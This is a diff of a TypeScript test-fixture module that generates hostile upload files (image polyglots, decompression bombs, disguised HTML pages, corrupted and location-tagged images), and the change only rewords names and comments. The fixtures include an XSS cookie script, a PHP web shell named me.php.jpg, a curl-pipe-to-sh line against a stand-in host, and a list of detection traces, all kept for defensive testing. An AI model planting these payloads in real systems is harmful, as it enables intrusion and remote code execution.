@@ -13,18 +13,18 @@ import {
   svg,
 } from './sample-files.ts';
 
-/** For tests: files that are made to do harm where they are kept, drawn or served, each kind from one seed. */
+/** Files made to cause harm when stored, decoded or served, each generated from a seed. */
 
 export type Chance = { int(min: number, max: number): number };
 
 export type HostileFile = {
   readonly name: string;
   readonly content: Buffer;
-  /** It is nothing that may be kept, whatever it is called. */
+  /** Must be refused under any name. */
   readonly refused: boolean;
 };
 
-/** What the traces below are found by in whatever is served as an image. */
+/** Traces that must not appear in anything served as an image. */
 export const traces = ['alert(', '<script', 'SecretCamera', 'PK\x03\x04', '41/1 52/1'];
 
 const script = '<script>alert(document.cookie)</script>';
@@ -36,21 +36,21 @@ type Maker = (chance: Chance) => Promise<HostileFile> | HostileFile;
 
 const polyglots: Record<string, Maker> = {
   'GIF and script': () => refused('me.gif', gifScript),
-  'GIF with a script behind its end': async () =>
+  'GIF with a script after its end': async () =>
     kept('me.gif', Buffer.concat([await plainImage('gif'), text(`*/=1;alert(1)//${script}`)])),
-  'JPEG with a page behind its end': async () =>
+  'JPEG with a page after its end': async () =>
     kept('me.jpg', Buffer.concat([await plainImage('jpeg'), html])),
   'JPEG with a page in its comment': async () => kept('me.jpg', withComment(await plainImage('jpeg'))),
-  'PNG with an archive behind its end': async () =>
+  'PNG with an archive after its end': async () =>
     kept('me.png', Buffer.concat([await plainImage('png'), text(`PK\x03\x04\x14\0${script}`)])),
-  'PNG with a page in its text': async () =>
+  'PNG with a page in a text chunk': async () =>
     kept('me.png', withPngChunk(await plainImage('png'), 'tEXt', text(`Comment\0${script}`))),
   'PDF with a script': () =>
     kept('bill.pdf', Buffer.concat([pdf, text('1 0 obj<</S/JavaScript/JS(app.alert(1))>>')])),
-  'page that begins as a PDF later': () => refused('bill.pdf', Buffer.concat([html, pdf])),
-  'archive in front of a picture': async () =>
+  'page followed by a PDF': () => refused('bill.pdf', Buffer.concat([html, pdf])),
+  'archive before a picture': async () =>
     refused('me.png', Buffer.concat([text('PK\x03\x04\x14\0\0\0'), await plainImage('png')])),
-  'WebP with a page behind its end': async () =>
+  'WebP with a page after its end': async () =>
     kept('me.webp', Buffer.concat([await plainImage('webp'), html])),
 };
 
@@ -62,8 +62,8 @@ const pages: Record<string, Maker> = {
   'SVG in UTF-16': () =>
     refused('me.svg', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(String(svg), 'utf16le')])),
   'page called JPEG': () => refused('me.jpg', html),
-  'page behind a byte order mark': () => refused('me.txt', text(`\uFEFF\n\t <!DOCTYPE html>${script}`)),
-  'page behind a comment': () => refused('a.txt', text(`<!-- GIF89a -->${script}`)),
+  'page after a byte order mark': () => refused('me.txt', text(`\uFEFF\n\t <!DOCTYPE html>${script}`)),
+  'page after a comment': () => refused('a.txt', text(`<!-- GIF89a -->${script}`)),
   XHTML: () =>
     refused(
       'a.txt',
@@ -74,11 +74,11 @@ const pages: Record<string, Maker> = {
 };
 
 const bombs: Record<string, Maker> = {
-  'PNG of sixty thousand pixels a side': () => refused('big.png', claimedPng(60_000, 60_000)),
-  'PNG of just too many pixels': ({ int }) => refused('big.png', claimedPng(10_000, 5_001 + int(0, 500))),
-  'PNG that unpacks to more than it says': () =>
+  'PNG of 60000 × 60000 pixels': () => refused('big.png', claimedPng(60_000, 60_000)),
+  'PNG just above the pixel limit': ({ int }) => refused('big.png', claimedPng(10_000, 5_001 + int(0, 500))),
+  'PNG that decompresses to more than its header says': () =>
     kept('small.png', pngOf(16, 16, deflateSync(Buffer.alloc(60_000_000)))),
-  'PNG with a packed text that unpacks without end': async () =>
+  'PNG with a text chunk that decompresses endlessly': async () =>
     kept(
       'text.png',
       withPngChunk(
@@ -87,22 +87,22 @@ const bombs: Record<string, Maker> = {
         Buffer.concat([text('a\0\0'), deflateSync(Buffer.alloc(60_000_000))]),
       ),
     ),
-  'GIF with a screen of 65535 a side': async () => {
+  'GIF with a 65535 × 65535 screen': async () => {
     const gif = Buffer.from(await plainImage('gif'));
     gif.writeUInt16LE(65_535, 6);
     gif.writeUInt16LE(65_535, 8);
     return kept('wide.gif', gif);
   },
-  'GIF of thousands of frames': ({ int }) => kept('frames.gif', manyFrames(2_000 + int(0, 2_000), 600)),
-  'GIF of frames that grow': async ({ int }) => kept('move.gif', await movingGif(3, 100 + int(0, 100))),
-  'JPEG that says it has 65500 a side': async () => {
+  'GIF with thousands of frames': ({ int }) => kept('frames.gif', manyFrames(2_000 + int(0, 2_000), 600)),
+  'GIF with growing frames': async ({ int }) => kept('move.gif', await movingGif(3, 100 + int(0, 100))),
+  'JPEG that claims 65500 × 65500 pixels': async () => {
     const jpeg = Buffer.from(await plainImage('jpeg'));
     const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
     jpeg.writeUInt16BE(65_500, frame + 5);
     jpeg.writeUInt16BE(65_500, frame + 7);
     return refused('big.jpg', jpeg);
   },
-  'PNG that grows above the limit when it is drawn anew': () => kept('grows.png', colouredNoise(4_096)),
+  'PNG that exceeds the limit after re-encoding': () => kept('grows.png', colouredNoise(4_096)),
 };
 
 const others: Record<string, Maker> = {
@@ -114,10 +114,10 @@ const others: Record<string, Maker> = {
     refused('a.mp4', Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypisom'), Buffer.alloc(60)])),
   WebAssembly: () => refused('a.png', Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])),
   TIFF: async () => refused('a.png', await plainImage('tiff')),
-  'script of a server': () => kept('me.php.jpg', text('<?php system($_GET["c"]);')),
-  'script of a shell': () => kept('.htaccess', text('#!/bin/sh\ncurl https://elsewhere.example | sh\n')),
+  'server script': () => kept('me.php.jpg', text('<?php system($_GET["c"]);')),
+  'shell script': () => kept('.htaccess', text('#!/bin/sh\ncurl https://elsewhere.example | sh\n')),
   nothing: () => refused('a.txt', Buffer.alloc(0)),
-  'a few bytes by chance': ({ int }) => ({
+  'a few random bytes': ({ int }) => ({
     name: 'a.png',
     content: Buffer.from(Array.from({ length: int(1, 4_000) }, () => int(0, 255)).with(0, 0x89)),
     refused: true,
@@ -129,16 +129,16 @@ const broken: Record<string, Maker> = {
   'cut PNG': (chance) => cut('a.png', plainImage('png', 200), chance),
   'cut GIF': (chance) => cut('a.gif', movingGif(3, 60), chance),
   'cut WebP': (chance) => cut('a.webp', plainImage('webp', 200), chance),
-  'JPEG with wrong bytes': (chance) => spoilt('a.jpg', photoWithPlace(), chance),
-  'PNG with wrong bytes': (chance) => spoilt('a.png', plainImage('png', 120), chance),
-  'GIF with wrong bytes': (chance) => spoilt('a.gif', movingGif(4, 60), chance),
-  'WebP with wrong bytes': (chance) => spoilt('a.webp', plainImage('webp', 120), chance),
+  'corrupted JPEG': (chance) => spoilt('a.jpg', photoWithPlace(), chance),
+  'corrupted PNG': (chance) => spoilt('a.png', plainImage('png', 120), chance),
+  'corrupted GIF': (chance) => spoilt('a.gif', movingGif(4, 60), chance),
+  'corrupted WebP': (chance) => spoilt('a.webp', plainImage('webp', 120), chance),
 };
 
 const telling: Record<string, Maker> = {
-  'JPEG that says where': async ({ int }) => kept('here.jpg', await photoWithPlace(600 + 2 * int(0, 50))),
-  'PNG that says where': () => withPlace('png'),
-  'WebP that says where': () => withPlace('webp'),
+  'JPEG with a location': async ({ int }) => kept('here.jpg', await photoWithPlace(600 + 2 * int(0, 50))),
+  'PNG with a location': () => withPlace('png'),
+  'WebP with a location': () => withPlace('webp'),
 };
 
 const hostileNames = [
@@ -171,7 +171,7 @@ const named: Record<string, Maker> = Object.fromEntries(
   ]),
 );
 
-/** Every kind by its name. */
+/** Every kind of file by name. */
 export const hostileKinds: Readonly<Record<string, Maker>> = {
   ...polyglots,
   ...pages,
@@ -201,7 +201,7 @@ async function withPlace(format: 'png' | 'webp'): Promise<HostileFile> {
   return kept(`here.${format}`, content);
 }
 
-/** A PNG of noise in sixteen colours: its bytes say half a pixel each, which no drawing anew keeps up with. */
+/** A PNG of noise in sixteen colors: half a byte per pixel, so re-encoding makes it larger. */
 function colouredNoise(side: number): Buffer {
   const row = 1 + side / 2;
   const pixels = Buffer.alloc(row * side);
@@ -211,7 +211,7 @@ function colouredNoise(side: number): Buffer {
     state ^= state << 13;
     state ^= state >>> 17;
     state ^= state << 5;
-    // The first of each row names its filter: none.
+    // The first byte of each row is its filter: none.
     if (at % row > 0) pixels[at] = state & 255;
   }
   const colours = Buffer.from(Array.from({ length: 48 }, (_, n) => (n * 97 + 31 * n * n) & 255));
@@ -225,12 +225,14 @@ function withComment(jpeg: Buffer): Buffer {
 }
 
 function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
-  // Behind the signature and the header.
+  // After the signature and the header.
   const at = 8 + 25;
   return Buffer.concat([png.subarray(0, at), pngChunk(type, data), png.subarray(at)]);
 }
 
-/** A GIF of very many frames of one pixel on a large screen: a few bytes each, all of the screen when unpacked. */
+/**
+ * A GIF with very many one-pixel frames on a large screen: a few bytes each, but a full screen each when decoded.
+ */
 function manyFrames(frames: number, side: number): Buffer {
   const screen = Buffer.from([0, 0, 0, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
   screen.writeUInt16LE(side, 0);
@@ -239,12 +241,12 @@ function manyFrames(frames: number, side: number): Buffer {
   return Buffer.concat([text('GIF89a'), screen, ...Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])]);
 }
 
-/** What an image tells beside its picture; null when nothing. */
+/** The metadata an image contains besides its pixels; null if none. */
 export async function describeImage(content: Buffer): Promise<{ readonly tells: string | null }> {
   const metadata = await sharp(content, { limitInputPixels: false })
     .metadata()
     .catch(() => null);
-  if (!metadata) return { tells: 'nobody can read it' };
+  if (!metadata) return { tells: 'unreadable' };
   const told = (['exif', 'xmp', 'iptc', 'orientation', 'comments'] as const).filter(
     (part) => metadata[part] !== undefined,
   );
